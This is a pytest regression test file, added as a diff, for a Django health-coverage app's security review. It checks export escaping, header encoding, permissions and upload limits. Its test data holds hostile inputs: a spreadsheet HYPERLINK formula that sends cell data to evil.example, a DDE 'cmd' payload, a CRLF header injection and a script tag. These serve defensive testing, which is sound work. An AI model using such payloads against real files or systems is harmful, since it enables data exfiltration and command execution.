@@ -1,0 +1,202 @@
+"""Regression tests for the security/correctness review of the coverage app."""
+
+from __future__ import annotations
+
+import io
+
+import openpyxl
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.management import call_command
+from django.urls import reverse
+
+from ejamkesda.audit.models import AuditLog
+from ejamkesda.core.roles import Role
+from ejamkesda.coverage.exports import attachment_header, safe_text, xlsx_response
+from ejamkesda.coverage.models import InstructionTask, MatchReview, SnapshotKind
+from tests.coverage.factories import (
+    VILLAGE_A,
+    MembershipRecordFactory,
+    PopulationRecordFactory,
+    SectorEntryFactory,
+    SectorListFactory,
+    SnapshotFactory,
+    build_month,
+    nik,
+    regions,
+)
+from tests.factories import AgencyFactory
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+2", "-2+3", "@SUM(A1)", "\t=1"]
+
+
+def _sheet_values(content: bytes) -> list[tuple]:
+    workbook = openpyxl.load_workbook(io.BytesIO(content))
+    return [row for row in workbook.active.iter_rows(values_only=True)]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_safe_text_neutralises_formulas(text):
+    assert safe_text(text).startswith("'")
+    assert safe_text("Siti Nurhaliza") == "Siti Nurhaliza"
+
+
+def test_xlsx_cells_never_formulas():
+    response = xlsx_response("uji", "Uji", ["Nama", "Jumlah"], [[text, 5] for text in HOSTILE])
+    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
+    cells = [row[0] for row in workbook.active.iter_rows(min_row=4)]
+    assert all(cell.data_type == "s" for cell in cells)
+    assert all(str(cell.value).startswith("'") for cell in cells)
+    # numbers stay numbers
+    assert [row[1].value for row in workbook.active.iter_rows(min_row=4)] == [5] * len(HOSTILE)
+
+
+def test_village_list_download_escapes_hostile_names(client, login):
+    regions()
+    population = SnapshotFactory(kind=SnapshotKind.POPULATION)
+    membership = SnapshotFactory(kind=SnapshotKind.MEMBERSHIP)
+    PopulationRecordFactory(snapshot=population, nik=nik(1), village_code=VILLAGE_A, name=HOSTILE[0])
+    from ejamkesda.coverage.services.compute import coverage_period_compute
+
+    coverage_period_compute(month=population.as_of, population=population, membership=membership)
+    login(Role.UPT_ADMIN)
+    response = client.get(reverse("coverage:village_residents", args=[VILLAGE_A]), {"format": "xlsx"})
+    values = [cell for row in _sheet_values(response.content) for cell in row if isinstance(cell, str)]
+    assert "'" + HOSTILE[0] in values
+    assert HOSTILE[0] not in values
+
+
+def test_sector_list_download_escapes_hostile_names(client, login):
+    regions()
+    agency = AgencyFactory()
+    period = build_month(residents=[(nik(1), VILLAGE_A)], members=[])
+    sector_list = SectorListFactory(agency=agency)
+    snapshot = SnapshotFactory(kind=SnapshotKind.SECTOR, sector_list=sector_list, as_of=period.month)
+    SectorEntryFactory(snapshot=snapshot, nik=nik(1), name="=cmd|' /C calc'!A0")
+    login(Role.OPD_OPERATOR, agency=agency)
+    response = client.get(reverse("coverage:sector_people", args=[sector_list.pk]), {"format": "xlsx"})
+    assert response.status_code == 200
+    values = [cell for row in _sheet_values(response.content) for cell in row if isinstance(cell, str)]
+    assert "'=cmd|' /C calc'!A0" in values
+
+
+def test_content_disposition_is_encoded():
+    header = attachment_header('bukti"\r\nSet-Cookie: x=1.pdf')
+    assert "\r" not in header and "\n" not in header
+    assert header.startswith("attachment")
+    assert 'filename="bukti\\"' in header or "filename*=" in header or "%22" in header
+
+
+def test_review_queue_queries_do_not_grow_with_rows(client, login, django_assert_max_num_queries):
+    population = SnapshotFactory(kind=SnapshotKind.POPULATION)
+    membership = SnapshotFactory(kind=SnapshotKind.MEMBERSHIP)
+    for number in range(1, 21):
+        card = MembershipRecordFactory(snapshot=membership, name=f"Peserta {number}")
+        PopulationRecordFactory(snapshot=population, nik=nik(number), name=f"Penduduk {number}")
+        MatchReview.objects.create(
+            card_number=card.card_number,
+            resident_nik=nik(number),
+            score="0.75",
+            method="uji",
+            membership_snapshot=membership,
+            population_snapshot=population,
+        )
+    login(Role.UPT_VERIFIER)
+    with django_assert_max_num_queries(12):
+        response = client.get(reverse("coverage:review_queue"))
+    assert response.status_code == 200
+    rows = response.context["rows"]
+    assert len(rows) == 20
+    assert all(row["card"] is not None and row["person"] is not None for row in rows)
+    assert {row["person"].nik for row in rows} == {nik(n) for n in range(1, 21)}
+    assert nik(1) not in response.content.decode()  # masked
+
+
+def _seed_tasks():
+    AgencyFactory(name="Dinas Sosial")
+    call_command("seed_instruction_tasks")
+    return InstructionTask.objects.get(point=6, letter="d")
+
+
+def test_task_edit_goes_through_service_with_changes_audited(client, login):
+    task = _seed_tasks()
+    other = AgencyFactory(name="Dinas Perikanan")
+    login(Role.UPT_ADMIN)
+    response = client.post(
+        reverse("coverage:task", args=[task.pk]),
+        {"action": "edit", "agency": other.pk, "indicator": "Indikator baru", "text": "Tugas baru"},
+    )
+    assert response.status_code == 302
+    task.refresh_from_db()
+    assert (task.agency, task.indicator, task.text) == (other, "Indikator baru", "Tugas baru")
+    entry = AuditLog.objects.get(action="update", object_type="coverage.InstructionTask", object_id=str(task.pk))
+    assert entry.changes["text"][1] == "Tugas baru"
+    assert entry.changes["agency"][1] == other.pk
+
+
+def test_viewer_cannot_edit_or_report_task(client, login):
+    task = _seed_tasks()
+    login(Role.VIEWER)
+    assert client.post(reverse("coverage:task", args=[task.pk]), {"action": "edit", "text": "x"}).status_code == 404
+    response = client.post(reverse("coverage:task", args=[task.pk]), {"percent": 50, "note": "x"})
+    assert response.status_code == 404
+    task.refresh_from_db()
+    assert task.progress_percent == 0
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "ok"),
+    [
+        ("bukti.pdf", b"%PDF-1.4", True),
+        ("foto.JPG", b"\xff\xd8\xff", True),
+        ("skrip.html", b"<script>alert(1)</script>", False),
+        ("program.exe", b"MZ", False),
+        ("tanpa-ekstensi", b"x", False),
+    ],
+)
+def test_task_evidence_kinds(client, login, tmp_path, settings, name, content, ok):
+    settings.MEDIA_ROOT = tmp_path
+    task = _seed_tasks()
+    login(Role.OPD_OPERATOR, agency=task.agency)
+    response = client.post(
+        reverse("coverage:task", args=[task.pk]),
+        {"percent": 10, "note": "laporan", "evidence": SimpleUploadedFile(name, content)},
+    )
+    task.refresh_from_db()
+    assert (task.progress_percent == 10) is ok
+    assert (response.status_code == 302) is ok
+
+
+def test_task_evidence_size_limit(client, login, tmp_path, settings, monkeypatch):
+    settings.MEDIA_ROOT = tmp_path
+    monkeypatch.setattr("ejamkesda.coverage.conf.EVIDENCE_MAX_BYTES", 10)
+    task = _seed_tasks()
+    login(Role.OPD_OPERATOR, agency=task.agency)
+    client.post(
+        reverse("coverage:task", args=[task.pk]),
+        {"percent": 10, "note": "laporan", "evidence": SimpleUploadedFile("b.pdf", b"%PDF-1.4 lebih dari sepuluh")},
+    )
+    task.refresh_from_db()
+    assert task.progress_percent == 0
+
+
+def test_sheet_title_accepts_any_list_name():
+    from ejamkesda.coverage.exports import sheet_title
+
+    assert sheet_title("Guru SD: belum aktif [2026/10]?*") == "Guru SD belum aktif 2026 10"
+    assert len(sheet_title("x" * 80)) == 31
+    assert sheet_title("::") == "Data"
+
+
+def test_pdf_download_with_markup_in_list_name(client, login):
+    regions()
+    agency = AgencyFactory()
+    period = build_month(residents=[(nik(1), VILLAGE_A)], members=[])
+    sector_list = SectorListFactory(agency=agency, name="Guru <b>honorer & PPPK")
+    snapshot = SnapshotFactory(kind=SnapshotKind.SECTOR, sector_list=sector_list, as_of=period.month)
+    SectorEntryFactory(snapshot=snapshot, nik=nik(1), name="<i>Budi")
+    login(Role.OPD_OPERATOR, agency=agency)
+    response = client.get(reverse("coverage:sector_people", args=[sector_list.pk]), {"format": "pdf"})
+    assert response.status_code == 200 and response.content.startswith(b"%PDF")
